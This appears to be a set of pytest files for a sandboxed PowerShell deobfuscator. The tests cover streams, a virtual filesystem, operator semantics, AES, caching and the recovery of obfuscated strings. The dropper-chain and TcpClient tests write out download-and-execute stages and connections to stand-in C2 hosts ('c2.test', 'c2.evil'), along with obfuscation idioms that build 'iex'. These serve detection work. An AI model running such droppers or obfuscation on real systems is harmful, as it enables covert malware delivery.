import zlib

import pytest

from repro.runtime.errors import UnsupportedOperationError
from repro.runtime.host import SandboxHost
from repro.runtime.objects import (
    ArrayList,
    DeflateStream,
    Encoding,
    GzipStream,
    MemoryStream,
    PSCredential,
    StreamReader,
    StringBuilder,
    TcpClient,
    WebClient,
)


class TestEncoding:
    def test_utf8_roundtrip(self):
        encoding = Encoding("utf8")
        data = encoding.ps_call("GetBytes", ["héllo"])
        assert encoding.ps_call("GetString", [data]) == "héllo"

    def test_unicode_is_utf16le(self):
        encoding = Encoding("unicode")
        data = encoding.ps_call("GetBytes", ["hi"])
        assert bytes(data) == b"h\x00i\x00"

    def test_getstring_accepts_int_list(self):
        encoding = Encoding("ascii")
        assert encoding.ps_call("GetString", [[104, 105]]) == "hi"

    def test_unknown_encoding_rejected(self):
        with pytest.raises(UnsupportedOperationError):
            Encoding("klingon")

    def test_case_insensitive_method(self):
        encoding = Encoding("utf8")
        assert encoding.ps_call("getstring", [b"ok"]) == "ok"


class TestMemoryStream:
    def test_toarray(self):
        stream = MemoryStream(b"abc")
        assert bytes(stream.ps_call("ToArray", [])) == b"abc"

    def test_write_then_read(self):
        stream = MemoryStream()
        stream.ps_call("Write", [b"xyz", 0, 3])
        stream.ps_call("Seek", [0])
        out = bytearray(3)
        count = stream.ps_call("Read", [out, 0, 3])
        assert count == 3
        assert bytes(out) == b"xyz"

    def test_length_member(self):
        assert MemoryStream(b"abcd").ps_member("Length") == 4

    def test_position_settable(self):
        stream = MemoryStream(b"abcd")
        stream.ps_set_member("Position", 2)
        assert stream.ps_member("Position") == 2


class TestDeflate:
    def _deflated(self, payload: bytes) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(payload) + compressor.flush()

    def test_decompress_via_reader(self):
        stream = MemoryStream(self._deflated(b"inflate me"))
        deflate = DeflateStream(stream, "decompress")
        reader = StreamReader(deflate, Encoding("ascii"))
        assert reader.ps_call("ReadToEnd", []) == "inflate me"

    def test_copyto(self):
        stream = MemoryStream(self._deflated(b"data"))
        deflate = DeflateStream(stream, "decompress")
        target = MemoryStream()
        deflate.ps_call("CopyTo", [target])
        assert bytes(target.buffer) == b"data"

    def test_compression_write(self):
        sink = MemoryStream()
        deflate = DeflateStream(sink, "compress")
        deflate.ps_call("Write", [b"compress me please", 0, 18])
        deflate.ps_call("Close", [])
        assert zlib.decompress(bytes(sink.buffer), -15) == (
            b"compress me please"
        )

    def test_gzip_roundtrip(self):
        import gzip

        blob = gzip.compress(b"gz payload")
        stream = MemoryStream(blob)
        reader = StreamReader(GzipStream(stream, "decompress"),
                              Encoding("ascii"))
        assert reader.ps_call("ReadToEnd", []) == "gz payload"

    def test_garbage_input_raises(self):
        from repro.runtime.errors import EvaluationError

        deflate = DeflateStream(MemoryStream(b"not deflate"), "decompress")
        with pytest.raises(EvaluationError):
            deflate.decompressed()


class TestWebClient:
    def test_download_string_records_and_fetches(self):
        host = SandboxHost(responses={"http://a/": "BODY"})
        client = WebClient(host)
        assert client.ps_call("DownloadString", ["http://a/"]) == "BODY"
        assert host.effects[0].kind == "net.download_string"

    def test_download_file_records_path(self):
        host = SandboxHost()
        client = WebClient(host)
        client.ps_call("DownloadFile", ["http://a/x", r"C:\t\x.exe"])
        assert host.effects[0].detail == r"C:\t\x.exe"

    def test_headers_settable(self):
        client = WebClient(SandboxHost())
        headers = client.ps_member("Headers")
        headers["User-Agent"] = "Mozilla"
        assert client.ps_member("Headers")["User-Agent"] == "Mozilla"

    def test_proxy_assignment(self):
        client = WebClient(SandboxHost())
        client.ps_set_member("Proxy", None)
        assert client.ps_member("Proxy") is None


class TestTcpClient:
    def test_connect_records(self):
        host = SandboxHost()
        TcpClient(host, "10.0.0.1", 4444)
        assert host.effects[0].target == "10.0.0.1:4444"
        assert host.effects[0].host == "10.0.0.1"

    def test_deferred_connect(self):
        host = SandboxHost()
        client = TcpClient(host)
        client.ps_call("Connect", ["c2.evil", 443])
        assert host.effects[0].target == "c2.evil:443"
        assert client.ps_member("Connected") is True


class TestBuilders:
    def test_stringbuilder(self):
        builder = StringBuilder("a")
        builder.ps_call("Append", ["b"]).ps_call("Append", ["c"])
        assert builder.ps_call("ToString", []) == "abc"

    def test_arraylist(self):
        array = ArrayList()
        array.ps_call("Add", [1])
        array.ps_call("Add", [2])
        assert array.ps_member("Count") == 2
        assert array.ps_call("ToArray", []) == [1, 2]

    def test_credential(self):
        from repro.runtime.securestring import SecureString

        credential = PSCredential("admin", SecureString("hunter2"))
        network = credential.ps_call("GetNetworkCredential", [])
        assert network.ps_member("Password") == "hunter2"
        assert network.ps_member("UserName") == "admin"
