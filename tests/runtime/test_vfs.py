"""Tests for the virtual filesystem (dropper-chain observability)."""

import pytest

from repro.analysis import observe_behavior
from repro.runtime.errors import BlockedCommandError, EvaluationError
from repro.runtime.evaluator import Evaluator, evaluate_expression_text as ev
from repro.runtime.host import SandboxHost


def make_evaluator(**responses):
    host = SandboxHost(responses=responses)
    return Evaluator(host=host, enforce_blocklist=False)


class TestFileCmdlets:
    def test_out_file_then_get_content(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'line1' | out-file C:\\t\\a.txt\nget-content C:\\t\\a.txt"
        )
        assert out == ["line1"]

    def test_set_content_value_parameter(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "set-content -Path C:\\x.txt -Value 'data'\n"
            "get-content C:\\x.txt -Raw"
        )
        assert out == ["data"]

    def test_add_content_appends(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'a' | set-content C:\\l.txt\n"
            "'b' | add-content C:\\l.txt\n"
            "get-content C:\\l.txt -Raw"
        )
        assert out == ["ab"]

    def test_get_content_missing_path(self):
        evaluator = make_evaluator()
        with pytest.raises(EvaluationError):
            evaluator.run_script_text("get-content C:\\missing.txt")

    def test_test_path_reflects_vfs(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'x' | out-file C:\\here.txt\n"
            "test-path C:\\here.txt\ntest-path C:\\gone.txt"
        )
        assert out == [True, False]

    def test_paths_case_insensitive(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "'x' | out-file C:\\CaSe.TXT\nget-content c:\\case.txt"
        )
        assert out == ["x"]


class TestIoFileStatics:
    def test_write_read_text(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllText('C:\\f.txt', 'hello')\n"
            "[IO.File]::ReadAllText('C:\\f.txt')"
        )
        assert out == ["hello"]

    def test_write_read_bytes(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllBytes('C:\\b.bin', (72,73))\n"
            "[IO.File]::ReadAllBytes('C:\\b.bin')"
        )
        # Byte arrays unroll element-wise in the pipeline, like PS.
        assert out == [72, 73]

    def test_exists_and_delete(self):
        evaluator = make_evaluator()
        out = evaluator.run_script_text(
            "[IO.File]::WriteAllText('C:\\e.txt', 'x')\n"
            "[IO.File]::Exists('C:\\e.txt')\n"
            "[IO.File]::Delete('C:\\e.txt')\n"
            "[IO.File]::Exists('C:\\e.txt')"
        )
        assert out == [True, False]

    def test_blocked_under_blocklist(self):
        evaluator = Evaluator(enforce_blocklist=True)
        with pytest.raises(BlockedCommandError):
            evaluator.run_script_text(
                "[IO.File]::WriteAllText('C:\\f.txt', 'x')"
            )


class TestDropperChains:
    def test_download_drop_execute(self):
        responses = {
            "https://c2.test/stage.ps1": (
                "(New-Object Net.WebClient)"
                ".DownloadString('https://c2.test/final')"
            )
        }
        script = (
            "$w = New-Object Net.WebClient\n"
            "$w.DownloadFile('https://c2.test/stage.ps1', "
            "\"$env:TEMP\\up.ps1\")\n"
            "powershell -ExecutionPolicy Bypass -File \"$env:TEMP\\up.ps1\""
        )
        report = observe_behavior(script, responses=responses)
        kinds = [e.kind for e in report.effects]
        assert "net.download_file" in kinds
        assert "proc.powershell_file" in kinds
        assert "net.download_string" in kinds  # the second stage fired

    def test_invoke_dropped_script_directly(self):
        responses = {"http://x/s.ps1": "write-output 'stage-two ran'"}
        evaluator = make_evaluator(**responses)
        out = evaluator.run_script_text(
            "(New-Object Net.WebClient).DownloadFile('http://x/s.ps1',"
            " 'C:\\drop.ps1')\n"
            "& C:\\drop.ps1"
        )
        assert out == ["stage-two ran"]
        kinds = [e.kind for e in evaluator.host.effects]
        assert "proc.run_script" in kinds

    def test_missing_dropped_script_is_unsupported(self):
        evaluator = make_evaluator()
        from repro.runtime.errors import UnsupportedOperationError

        with pytest.raises(UnsupportedOperationError):
            evaluator.run_script_text("& C:\\never-dropped.ps1")
