"""Integration-grade tests for the sandboxed evaluator."""

import base64
import zlib

import pytest

from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    StepLimitError,
    UnknownVariableError,
    UnsupportedOperationError,
)
from repro.runtime.evaluator import Evaluator, evaluate_expression_text
from repro.runtime.limits import ExecutionBudget
from repro.runtime.values import PSChar


def ev(text, **kwargs):
    return evaluate_expression_text(text, **kwargs)


class TestLiterals:
    def test_string(self):
        assert ev("'hello'") == "hello"

    def test_number(self):
        assert ev("42") == 42

    def test_array(self):
        assert ev("1,2,3") == [1, 2, 3]

    def test_hashtable(self):
        assert ev("@{a=1}") == {"a": 1}

    def test_expandable_string(self):
        assert ev('"n=$(1+1)"') == "n=2"


class TestStringRecovery:
    """The expression shapes every Table II technique produces."""

    def test_concat(self):
        assert ev("'wri'+'te-ho'+'st'") == "write-host"

    def test_format_reorder(self):
        assert (
            ev("\"{2}{0}{1}\" -f 'ost h','ello','write-h'")
            == "write-host hello"
        )

    def test_replace_method(self):
        assert ev("'wrXte-host'.Replace('X','i')") == "write-host"

    def test_replace_operator(self):
        assert ev("'wrXte-host' -replace 'x','i'") == "write-host"

    def test_reverse_via_index(self):
        assert ev("'tsoh-etirw'[-1..-10] -join ''") == "write-host"

    def test_reverse_via_array_reverse(self):
        script = (
            "$a = 'tsoh'.ToCharArray(); [array]::Reverse($a); $a -join ''"
        )
        assert ev(script) == "host"

    def test_ascii_codes(self):
        assert ev("[char]104+[char]105") == "hi"

    def test_ascii_join_pipeline(self):
        assert (
            ev("(104,105 | foreach-object { [char]$_ }) -join ''") == "hi"
        )

    def test_bxor_decode(self):
        # 'h' ^ 0x4B = 35, 'i' ^ 0x4B = 34 -> encode then decode.
        encoded = ",".join(str(ord(c) ^ 0x4B) for c in "hi")
        script = (
            f"(('{encoded}' -split ',') | foreach-object "
            "{ [char]($_ -bxor '0x4B') }) -join ''"
        )
        assert ev(script) == "hi"

    def test_base64(self):
        payload = base64.b64encode("hello".encode()).decode()
        assert (
            ev(
                "[Text.Encoding]::UTF8.GetString("
                f"[Convert]::FromBase64String('{payload}'))"
            )
            == "hello"
        )

    def test_base64_unicode(self):
        payload = base64.b64encode("hi".encode("utf-16-le")).decode()
        assert (
            ev(
                "[Text.Encoding]::Unicode.GetString("
                f"[Convert]::FromBase64String('{payload}'))"
            )
            == "hi"
        )

    def test_binary_encoding(self):
        assert ev("[char][convert]::ToInt32('1101000',2)") == PSChar("h")

    def test_octal_encoding(self):
        assert ev("[char][convert]::ToInt32('150',8)") == PSChar("h")

    def test_hex_encoding(self):
        assert ev("[char][convert]::ToInt32('68',16)") == PSChar("h")

    def test_deflate(self):
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = compressor.compress(b"payload text") + compressor.flush()
        b64 = base64.b64encode(data).decode()
        script = (
            "(New-Object IO.StreamReader((New-Object "
            "IO.Compression.DeflateStream((New-Object IO.MemoryStream("
            f",[Convert]::FromBase64String('{b64}'))),"
            "[IO.Compression.CompressionMode]::Decompress)),"
            "[Text.Encoding]::ASCII)).ReadToEnd()"
        )
        assert ev(script) == "payload text"

    def test_env_char_mining(self):
        assert ev("$env:ComSpec[4,24,25] -join ''") == "Iex"

    def test_pshome_char_mining(self):
        assert ev("$pshome[4]+$pshome[30]+'x'") == "iex"


class TestVariables:
    def test_assignment_and_read(self):
        assert ev("$x = 5; $x + 1") == 6

    def test_compound_assignment(self):
        assert ev("$x = 5; $x += 2; $x") == 7

    def test_case_insensitive(self):
        assert ev("$Foo = 1; $fOO") == 1

    def test_unknown_variable_raises(self):
        with pytest.raises(EvaluationError):
            ev("$nosuchvariable123.Length")

    def test_unknown_variable_expands_empty_in_string(self):
        assert ev('"[$nope]"') == "[]"

    def test_preset_variables(self):
        assert ev("$seed + 1", variables={"seed": 10}) == 11

    def test_automatic_true_false_null(self):
        assert ev("$true") is True
        assert ev("$false") is False
        assert ev("$null") is None

    def test_env_assignment(self):
        assert ev("$env:custom = 'v'; $env:custom") == "v"

    def test_braced_variable(self):
        assert ev("${my var} = 3; ${my var}") == 3


class TestControlFlow:
    def test_if(self):
        assert ev("if (1 -eq 1) { 'yes' } else { 'no' }") == "yes"

    def test_else(self):
        assert ev("if (1 -eq 2) { 'yes' } else { 'no' }") == "no"

    def test_while(self):
        assert ev("$i=0; while ($i -lt 3) { $i++ }; $i") == 3

    def test_for(self):
        assert ev("$s=0; for($i=1; $i -le 4; $i++){ $s += $i }; $s") == 10

    def test_foreach(self):
        assert ev("$s=''; foreach($c in 'a','b'){ $s += $c }; $s") == "ab"

    def test_break(self):
        assert ev("$i=0; while ($true) { $i++; if ($i -ge 2) { break } }; $i") == 2

    def test_do_until(self):
        assert ev("$i=0; do { $i++ } until ($i -ge 3); $i") == 3

    def test_function_definition_and_call(self):
        assert ev("function Add-Two($a, $b) { $a + $b }; Add-Two 3 4") == 7

    def test_function_return(self):
        assert ev("function F { return 9; 10 }; F") == 9

    def test_try_catch(self):
        assert ev("try { throw 'x' } catch { 'caught' }") == "caught"

    def test_switch(self):
        assert ev("switch (2) { 1 { 'one' } 2 { 'two' } }") == "two"

    def test_infinite_loop_hits_budget(self):
        budget = ExecutionBudget(loop_limit=50)
        with pytest.raises(StepLimitError):
            ev("while ($true) { $x = 1 }", budget=budget)


class TestPipelines:
    def test_foreach_object(self):
        assert ev("1..3 | foreach-object { $_ * $_ }") == [1, 4, 9]

    def test_percent_alias(self):
        assert ev("1..3 | % { $_ + 1 }") == [2, 3, 4]

    def test_where_object(self):
        assert ev("1..5 | where-object { $_ -gt 3 }") == [4, 5]

    def test_select_first(self):
        assert ev("1..10 | select-object -First 3") == [1, 2, 3]

    def test_sort(self):
        assert ev("3,1,2 | sort-object") == [1, 2, 3]

    def test_out_null(self):
        assert ev("1..3 | out-null") is None

    def test_write_output(self):
        assert ev("write-output 'a' 'b'") == ["a", "b"]


class TestInvokeExpression:
    def test_basic(self):
        assert ev("iex '1+1'") == 2

    def test_pipeline_into_iex(self):
        assert ev("'2+3' | iex") == 5

    def test_call_operator_with_string(self):
        assert ev("& 'iex' '4+4'") == 8

    def test_dot_call(self):
        assert ev(".('ie'+'x') '5+5'") == 10

    def test_scriptblock_invoke(self):
        assert ev("{ param($n) $n * 2 }.Invoke(21)") == 42

    def test_scriptblock_create(self):
        assert ev("[scriptblock]::Create('6*7').Invoke()") == 42


class TestEncodedCommand:
    def test_powershell_enc(self):
        encoded = base64.b64encode("'run'".encode("utf-16-le")).decode()
        assert ev(f"powershell -e {encoded}") == "run"

    def test_prefix_variants(self):
        encoded = base64.b64encode("1+1".encode("utf-16-le")).decode()
        for flag in ("-e", "-en", "-enc", "-encodedcommand", "-eNC"):
            assert ev(f"powershell {flag} {encoded}") == 2

    def test_command_flag(self):
        assert ev("powershell -command \"7+7\"") == 14


class TestBlocklist:
    def test_blocked_command(self):
        with pytest.raises(BlockedCommandError):
            ev("start-sleep 5")

    def test_blocked_alias(self):
        with pytest.raises(BlockedCommandError):
            ev("sleep 5")

    def test_blocked_method(self):
        with pytest.raises(BlockedCommandError):
            ev("(New-Object Net.WebClient).DownloadString('http://x/')")

    def test_blocklist_off_records_effect(self):
        evaluator = Evaluator(enforce_blocklist=False)
        evaluator.run_script_text(
            "(New-Object Net.WebClient).DownloadString('http://x.test/')"
        )
        kinds = [e.kind for e in evaluator.host.effects]
        assert kinds == ["net.download_string"]

    def test_unknown_command_is_unsupported(self):
        with pytest.raises(UnsupportedOperationError):
            ev("invoke-mysterycommand")

    def test_nondeterministic_cmdlets_unsupported(self):
        with pytest.raises(UnsupportedOperationError):
            ev("get-random")


class TestDynamicAliases:
    def test_set_alias_then_call(self):
        assert ev("set-alias zz write-output; zz 'hi'") == "hi"

    def test_set_alias_to_iex(self):
        assert ev("sal qq invoke-expression; qq '1+2'") == 3


class TestMethodDispatch:
    def test_case_insensitive_method(self):
        assert ev("'aXa'.RepLACe('X','b')") == "aba"

    def test_method_name_via_string(self):
        assert ev("'hello'.ToUpper()") == "HELLO"

    def test_substring(self):
        assert ev("'powershell'.Substring(0,5)") == "power"

    def test_split_method(self):
        assert ev("'a-b-c'.Split('-')") == ["a", "b", "c"]

    def test_chars(self):
        assert ev("'abc'[1]") == PSChar("b")

    def test_length(self):
        assert ev("'abc'.Length") == 3

    def test_array_count(self):
        assert ev("(1,2,3).Count") == 3

    def test_unsupported_method(self):
        with pytest.raises(UnsupportedOperationError):
            ev("'x'.FrobnicateWildly()")


class TestStringExpansion:
    def test_variable(self):
        assert ev("$n = 'world'; \"hello $n\"") == "hello world"

    def test_subexpression(self):
        assert ev('"sum=$(1+2+3)"') == "sum=6"

    def test_braced(self):
        assert ev("$x = 1; \"${x}2\"") == "12"

    def test_env(self):
        assert ev('"$env:ComSpec"').endswith("cmd.exe")

    def test_dollar_alone(self):
        assert ev('"100$"') == "100$"
