"""AES substrate tests against FIPS-197 vectors plus property tests."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.runtime.aes import (
    _expand_key,
    decrypt_block,
    decrypt_cbc,
    encrypt_block,
    encrypt_cbc,
)


class TestFIPSVectors:
    def test_aes128_block(self):
        key = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
        plaintext = bytes.fromhex("00112233445566778899aabbccddeeff")
        round_keys = _expand_key(key)
        ciphertext = encrypt_block(plaintext, round_keys)
        assert ciphertext == bytes.fromhex(
            "69c4e0d86a7b0430d8cdb78070b4c55a"
        )
        assert decrypt_block(ciphertext, round_keys) == plaintext

    def test_aes192_block(self):
        key = bytes.fromhex(
            "000102030405060708090a0b0c0d0e0f1011121314151617"
        )
        plaintext = bytes.fromhex("00112233445566778899aabbccddeeff")
        round_keys = _expand_key(key)
        ciphertext = encrypt_block(plaintext, round_keys)
        assert ciphertext == bytes.fromhex(
            "dda97ca4864cdfe06eaf70a0ec0d7191"
        )
        assert decrypt_block(ciphertext, round_keys) == plaintext

    def test_aes256_block(self):
        key = bytes.fromhex(
            "000102030405060708090a0b0c0d0e0f"
            "101112131415161718191a1b1c1d1e1f"
        )
        plaintext = bytes.fromhex("00112233445566778899aabbccddeeff")
        round_keys = _expand_key(key)
        ciphertext = encrypt_block(plaintext, round_keys)
        assert ciphertext == bytes.fromhex(
            "8ea2b7ca516745bfeafc49904b496089"
        )
        assert decrypt_block(ciphertext, round_keys) == plaintext


class TestCBC:
    def test_roundtrip(self):
        key = b"0123456789abcdef"
        iv = bytes(range(16))
        message = b"attack at dawn" * 5
        assert decrypt_cbc(encrypt_cbc(message, key, iv), key, iv) == message

    def test_empty_plaintext(self):
        key = b"0123456789abcdef"
        iv = bytes(16)
        assert decrypt_cbc(encrypt_cbc(b"", key, iv), key, iv) == b""

    def test_bad_key_length(self):
        with pytest.raises(ValueError):
            encrypt_cbc(b"x", b"short", bytes(16))

    def test_bad_iv_length(self):
        with pytest.raises(ValueError):
            encrypt_cbc(b"x", b"0123456789abcdef", b"short")

    def test_unaligned_ciphertext(self):
        with pytest.raises(ValueError):
            decrypt_cbc(b"123", b"0123456789abcdef", bytes(16))

    def test_tampered_padding_detected(self):
        key = b"0123456789abcdef"
        iv = bytes(16)
        ciphertext = bytearray(encrypt_cbc(b"hello", key, iv))
        ciphertext[-1] ^= 0xFF
        with pytest.raises(ValueError):
            decrypt_cbc(bytes(ciphertext), key, iv)


@settings(max_examples=25, deadline=None)
@given(
    message=st.binary(min_size=0, max_size=200),
    key=st.sampled_from([16, 24, 32]),
)
def test_cbc_roundtrip_property(message, key):
    key_bytes = bytes(range(1, key + 1))
    iv = bytes(range(100, 116))
    assert (
        decrypt_cbc(encrypt_cbc(message, key_bytes, iv), key_bytes, iv)
        == message
    )
