"""Unit tests for PowerShell operator semantics."""

import pytest

from repro.runtime.errors import EvaluationError, UnsupportedOperationError
from repro.runtime.operators import binary_op, format_operator, unary_op
from repro.runtime.values import PSChar


class TestAddition:
    def test_numbers(self):
        assert binary_op("+", 1, 2) == 3

    def test_string_concat(self):
        assert binary_op("+", "a", "b") == "ab"

    def test_string_plus_number(self):
        assert binary_op("+", "a", 1) == "a1"

    def test_number_plus_numeric_string(self):
        assert binary_op("+", 1, "2") == 3

    def test_char_plus_char_concatenates(self):
        assert binary_op("+", PSChar("a"), PSChar("b")) == "ab"

    def test_array_concat(self):
        assert binary_op("+", [1], [2, 3]) == [1, 2, 3]

    def test_array_plus_scalar(self):
        assert binary_op("+", [1], 2) == [1, 2]

    def test_hashtable_merge(self):
        assert binary_op("+", {"a": 1}, {"b": 2}) == {"a": 1, "b": 2}


class TestArithmetic:
    def test_multiply_string(self):
        assert binary_op("*", "ab", 3) == "ababab"

    def test_multiply_array(self):
        assert binary_op("*", [1, 2], 2) == [1, 2, 1, 2]

    def test_integer_division_exact(self):
        assert binary_op("/", 10, 2) == 5

    def test_division_fraction(self):
        assert binary_op("/", 7, 2) == 3.5

    def test_division_by_zero(self):
        with pytest.raises(EvaluationError):
            binary_op("/", 1, 0)

    def test_modulo(self):
        assert binary_op("%", 7, 3) == 1


class TestFormatOperator:
    def test_reorder(self):
        assert (
            format_operator("{2}{0}{1}", ["ost h", "ello", "write-h"])
            == "write-host hello"
        )

    def test_single_arg_scalar(self):
        assert format_operator("{0}!", "hi") == "hi!"

    def test_hex_spec(self):
        assert format_operator("{0:X2}", [11]) == "0B"

    def test_decimal_spec(self):
        assert format_operator("{0:D4}", [7]) == "0007"

    def test_alignment(self):
        assert format_operator("{0,5}", ["ab"]) == "   ab"
        assert format_operator("{0,-5}|", ["ab"]) == "ab   |"

    def test_doubled_braces(self):
        assert format_operator("{{{0}}}", ["x"]) == "{x}"

    def test_out_of_range_raises(self):
        with pytest.raises(EvaluationError):
            format_operator("{3}", ["a"])


class TestSplitJoin:
    def test_binary_split(self):
        assert binary_op("-split", "a,b,c", ",") == ["a", "b", "c"]

    def test_split_is_case_insensitive(self):
        assert binary_op("-split", "aXbxc", "x") == ["a", "b", "c"]

    def test_csplit_case_sensitive(self):
        assert binary_op("-csplit", "aXbxc", "x") == ["aXb", "c"]

    def test_chained_split_flattens(self):
        first = binary_op("-split", "a~b}c", "~")
        assert binary_op("-split", first, "}") == ["a", "b", "c"]

    def test_split_keeps_empties(self):
        assert binary_op("-split", "a,,b", ",") == ["a", "", "b"]

    def test_unary_split_whitespace(self):
        assert unary_op("-split", " a  b\tc ") == ["a", "b", "c"]

    def test_binary_join(self):
        assert binary_op("-join", ["a", "b"], "-") == "a-b"

    def test_unary_join(self):
        assert unary_op("-join", ["a", "b", "c"]) == "abc"

    def test_join_converts_elements(self):
        assert binary_op("-join", [1, 2], "") == "12"


class TestReplace:
    def test_simple(self):
        assert binary_op("-replace", "aXa", ["x", "y"]) == "aya"

    def test_case_insensitive_default(self):
        assert binary_op("-replace", "AbA", ["a", "z"]) == "zbz"

    def test_creplace_case_sensitive(self):
        assert binary_op("-creplace", "AbA", ["A", "z"]) == "zbz"
        assert binary_op("-creplace", "aba", ["A", "z"]) == "aba"

    def test_regex_groups(self):
        assert binary_op("-replace", "a1b2", [r"(\d)", r"[$1]"]) == "a[1]b[2]"

    def test_remove_when_no_replacement(self):
        assert binary_op("-replace", "abc", "b") == "ac"


class TestBitwise:
    def test_bxor(self):
        assert binary_op("-bxor", 5, 3) == 6

    def test_bxor_hex_string_operand(self):
        assert binary_op("-bxor", 0, "0x4B") == 75

    def test_bxor_char(self):
        assert binary_op("-bxor", PSChar("a"), 1) == 96

    def test_band_bor(self):
        assert binary_op("-band", 6, 3) == 2
        assert binary_op("-bor", 6, 3) == 7

    def test_shl_shr(self):
        assert binary_op("-shl", 1, 4) == 16
        assert binary_op("-shr", 16, 4) == 1


class TestComparison:
    def test_eq_case_insensitive(self):
        assert binary_op("-eq", "ABC", "abc") is True

    def test_ceq_case_sensitive(self):
        assert binary_op("-ceq", "ABC", "abc") is False

    def test_numeric(self):
        assert binary_op("-gt", 5, 3) is True
        assert binary_op("-le", 3, 3) is True

    def test_numeric_with_string_rhs(self):
        assert binary_op("-eq", 5, "5") is True

    def test_array_lhs_filters(self):
        assert binary_op("-eq", [1, 2, 1], 1) == [1, 1]

    def test_like(self):
        assert binary_op("-like", "PowerShell", "power*") is True
        assert binary_op("-notlike", "x", "y*") is True

    def test_match(self):
        assert binary_op("-match", "abc123", r"\d+") is True
        assert binary_op("-notmatch", "abc", r"\d") is True

    def test_contains(self):
        assert binary_op("-contains", ["a", "B"], "b") is True
        assert binary_op("-notcontains", ["a"], "b") is True

    def test_in(self):
        assert binary_op("-in", "a", ["A", "b"]) is True


class TestRange:
    def test_ascending(self):
        assert binary_op("..", 1, 4) == [1, 2, 3, 4]

    def test_descending(self):
        assert binary_op("..", -1, -3) == [-1, -2, -3]

    def test_too_large_raises(self):
        with pytest.raises(EvaluationError):
            binary_op("..", 0, 10**7)


class TestLogicalUnary:
    def test_and_or_xor(self):
        assert binary_op("-and", 1, 1) is True
        assert binary_op("-or", 0, 1) is True
        assert binary_op("-xor", 1, 1) is False

    def test_not(self):
        assert unary_op("-not", 0) is True
        assert unary_op("!", "x") is False

    def test_bnot(self):
        assert unary_op("-bnot", 0) == -1

    def test_unary_minus(self):
        assert unary_op("-", "5") == -5

    def test_unsupported_operator_raises(self):
        with pytest.raises(UnsupportedOperationError):
            binary_op("-frobnicate", 1, 2)
