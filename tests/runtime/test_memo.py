"""Tests for the subtree-evaluation memo (:mod:`repro.runtime.memo`).

The memo is a speed optimization that must be invisible in every output:
these tests pin (1) key separation — the same piece under different
bindings never shares an entry, (2) the bounded-LRU budget, and (3) the
acceptance property that a memo-on run produces byte-identical scripts
and telemetry to a memo-off run over a generated corpus.
"""

from repro import Deobfuscator
from repro.core.recovery import RecoveryEngine
from repro.dataset.generator import generate_corpus
from repro.options import PipelineOptions
from repro.runtime.memo import (
    DEFAULT_MAX_ENTRIES,
    MAX_VALUE_CHARS,
    SubtreeMemo,
)


class TestKeying:
    def test_same_piece_same_bindings_same_key(self):
        memo = SubtreeMemo()
        k1 = memo.make_key("'a'+'b'", {"x": "1"}, None, None)
        k2 = memo.make_key("'a'+'b'", {"x": "1"}, None, None)
        assert k1 == k2

    def test_different_piece_different_key(self):
        memo = SubtreeMemo()
        assert memo.make_key("'a'+'b'", None, None, None) != (
            memo.make_key("'a'+'c'", None, None, None)
        )

    def test_referenced_binding_separates_keys(self):
        # $x appears in the piece, so its value is key material: two
        # environments must not share an entry.
        memo = SubtreeMemo()
        k1 = memo.make_key("$x + 'b'", {"x": "1"}, None, None)
        k2 = memo.make_key("$x + 'b'", {"x": "2"}, None, None)
        assert k1 != k2

    def test_unreferenced_binding_is_ignored(self):
        # $y cannot be read literally by a piece that never names it, so
        # its value must not fragment the key space.
        memo = SubtreeMemo()
        k1 = memo.make_key("'a'+'b'", {"y": "1"}, None, None)
        k2 = memo.make_key("'a'+'b'", {"y": "2"}, None, None)
        assert k1 == k2

    def test_dynamic_access_digests_all_bindings(self):
        # Get-Variable can reach $y without naming it: the marker forces
        # the full binding set into the key.
        memo = SubtreeMemo()
        piece = "(Get-Variable y).Value"
        k1 = memo.make_key(piece, {"y": "1"}, None, None)
        k2 = memo.make_key(piece, {"y": "2"}, None, None)
        assert k1 != k2

    def test_non_scalar_relevant_binding_is_unmemoizable(self):
        memo = SubtreeMemo()
        assert memo.make_key("$x[0]", {"x": [1, 2]}, None, None) is None

    def test_env_overrides_separate_keys(self):
        memo = SubtreeMemo()
        k1 = memo.make_key("$env:A", None, {"A": "1"}, None)
        k2 = memo.make_key("$env:A", None, {"A": "2"}, None)
        assert k1 != k2

    def test_salt_separates_engine_policies(self):
        memo = SubtreeMemo()
        k1 = memo.make_key("'a'", None, None, None, salt=(True, 100))
        k2 = memo.make_key("'a'", None, None, None, salt=(False, 100))
        assert k1 != k2


class TestCrossEnvironmentCorrectness:
    def test_engine_does_not_leak_values_across_environments(self):
        # One memo, one engine, same piece text, different $x — the
        # classic cache-poisoning shape.  Each environment must see its
        # own result.
        engine = RecoveryEngine(memo=SubtreeMemo())
        ok1, v1 = engine.evaluate_piece("$x + 'b'", variables={"x": "a"})
        ok2, v2 = engine.evaluate_piece("$x + 'b'", variables={"x": "z"})
        assert (ok1, v1) == (True, "ab")
        assert (ok2, v2) == (True, "zb")

    def test_repeated_piece_hits_and_replays_outcome(self):
        memo = SubtreeMemo()
        engine = RecoveryEngine(memo=memo)
        first = engine.recover_piece_detailed("'a'+'b'")
        second = engine.recover_piece_detailed("'a'+'b'")
        assert memo.hits == 1
        assert second.text == first.text == "'ab'"
        assert second.reason == first.reason
        assert second.steps == first.steps  # replayed, not recomputed


class TestBudget:
    def test_lru_eviction_at_entry_budget(self):
        memo = SubtreeMemo(max_entries=2)
        for i in range(4):
            key = memo.make_key(f"'p{i}'", None, None, None)
            memo.put(key, True, f"p{i}", "recovered", 1)
        assert len(memo) == 2
        assert memo.evictions == 2
        # The two most recent survive.
        assert memo.get(memo.make_key("'p3'", None, None, None)) is not None
        assert memo.get(memo.make_key("'p0'", None, None, None)) is None

    def test_oversized_string_value_is_not_stored(self):
        memo = SubtreeMemo()
        key = memo.make_key("'big'", None, None, None)
